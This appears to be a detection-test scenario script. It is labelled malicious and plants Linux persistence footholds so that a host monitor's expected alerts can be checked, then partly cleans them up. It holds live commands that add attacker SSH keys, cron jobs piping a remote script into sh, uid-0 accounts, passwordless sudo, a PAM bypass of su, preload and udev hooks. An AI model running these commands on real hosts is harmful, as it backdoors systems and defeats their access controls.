# footholds-on-host: keys, jobs, units, start files, a preloaded library, rules of sudo, PAM and udev, accounts and a static pod are planted.
# shows: the files written by a shell, tee, cp and sed; arguments of the accounts' tools
# label: malicious
# expects: [authorized-keys-changed, cron-table-changed, suspicious-start-entry-written, service-entry-written, shell-start-file-changed, linker-preload-set, sudo-rules-changed, login-rules-changed, startup-hook-planted, root-account-made, host-group-joined, static-pod-planted]
# allows: [engine-socket-connected, host-namespaces-shared, command-executed-in-container, shell-opened-in-container, files-copied-with-engine, remote-script-piped-to-interpreter, downloaded-program-run, package-manager-run-in-container, container-surroundings-explored, setuid-program-planted]
prepare() { mkdir -p /etc/kubernetes/manifests /etc/update-motd.d /etc/udev/rules.d /home/deploy/.ssh /var/spool/cron/crontabs; }
act() {
    if dev; then
        echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFootholdFootholdFoothold x' >>/root/.ssh/authorized_keys
        echo '* * * * * root /usr/local/sbin/upd' >/etc/cron.d/upd
        sh -c 'echo "*/10 * * * * root curl -s http://203.0.113.77/i.sh | sh" >>/etc/crontab'
        printf '[Service]\nExecStart=/usr/local/sbin/upd\n' >/etc/systemd/system/upd.service
        echo 'alias sudo=/usr/local/sbin/s' >>/root/.bashrc
        touch /usr/local/lib/libx.so; sh -c 'echo >/etc/ld.so.preload'
        echo 'deploy ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/90-x
        sed -i '1s/^/auth sufficient pam_succeed_if.so uid >= 0\n/' /etc/pam.d/su
        echo 'ACTION=="add", RUN+="/usr/local/sbin/upd"' >/etc/udev/rules.d/99-upd.rules
        useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm
        usermod -aG sudo deploy
        echo 'kind: Pod' >/etc/kubernetes/manifests/upd.yaml
    else
        mkdir -p /home/ops/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQ y' | tee -a /home/ops/.ssh/authorized_keys
        sh -c '(crontab -l 2>/dev/null; echo "@reboot /dev/shm/.c -B") | crontab -'
        sh -c 'printf "[Service]\nExecStart=/var/tmp/.d\nRestart=always\n" >/etc/systemd/system/dbus-upd.service'
        printf '/usr/local/sbin/upd &\n' >/etc/profile.d/zz.sh
        LD_PRELOAD='' env LD_PRELOAD=/tmp/l.so true
        echo /usr/local/lib/liby.so | tee /etc/ld.so.preload; rm -f /etc/ld.so.preload
        echo 'Defaults !tty_tickets' | tee -a /etc/sudoers
        cp /etc/pam.d/su /tmp/su.p && echo 'auth optional pam_exec.so quiet /usr/local/sbin/upd' >>/tmp/su.p && mv /tmp/su.p /etc/pam.d/su
        printf '#!/bin/sh\n/usr/local/sbin/upd\n' >/tmp/m; cp /tmp/m /etc/update-motd.d/00-upd
        echo 'sys2:x:0:0::/root:/bin/sh' | tee -a /etc/passwd
        gpasswd -a ops docker
        cp /tmp/m /etc/kubernetes/manifests/kube-proxy.yaml
    fi
    true
}
restore() { rm -rf /etc/ld.so.preload /etc/cron.d/upd /etc/kubernetes /etc/sudoers.d/90-x /etc/udev/rules.d/99-upd.rules; userdel sysadm 2>/dev/null; sed -i '/^sys2:/d' /etc/passwd; }
